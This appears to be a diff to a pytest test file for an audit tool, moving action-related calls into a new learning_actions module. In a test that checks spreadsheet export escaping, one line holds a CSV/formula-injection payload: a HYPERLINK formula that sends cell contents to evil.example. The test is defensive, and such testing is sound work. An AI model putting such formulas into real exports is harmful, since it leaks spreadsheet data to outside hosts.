@@ -9,7 +9,7 @@ import pytest
 from openpyxl import load_workbook
 
 from audit_tool.errors import PermissionDenied, ValidationError
-from audit_tool.services import feedback, learning, learning_export, templates
+from audit_tool.services import feedback, learning, learning_actions, learning_export, templates
 from audit_tool.services.feedback import FeedbackFilter, FeedbackInput
 from audit_tool.services.learning import LearningFilter
 from tests.factories import looped_audit
@@ -40,10 +40,10 @@ def build(world):
     learning.add_learning_point(
         db, aud1, care, kind="development", text="Supervision not recorded.", themes=["records"]
     )
-    overdue = learning.add_action(
+    overdue = learning_actions.add_action(
         db, aud1, north, text="Update the chronology", owner_key="aud1", due_on=date(2026, 2, 1)
     )
-    done = learning.add_action(
+    done = learning_actions.add_action(
         db,
         aud2,
         north,
@@ -52,8 +52,8 @@ def build(world):
         due_on=date(2026, 3, 1),
         scope="service",
     )
-    learning.set_action_status(db, world.lead, done.uuid, "done", note="Sent to all teams")
-    learning.add_action(
+    learning_actions.set_action_status(db, world.lead, done.uuid, "done", note="Sent to all teams")
+    learning_actions.add_action(
         db, aud1, care, text="Book a review", owner_key="aud2", due_on=date(2027, 1, 1)
     )
     conversation = {
@@ -280,7 +280,7 @@ def test_user_text_starting_with_equals_is_written_as_text_not_a_formula(world, 
     north, _area, _overdue = build(world)
     point = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
     learning.add_learning_point(world.db, world.auditor, north, kind="strength", text=point)
-    learning.add_action(
+    learning_actions.add_action(
         world.db, world.auditor, north, text="=1+1", owner_key="aud1", due_on=date(2026, 2, 1)
     )
     feedback.add_feedback(
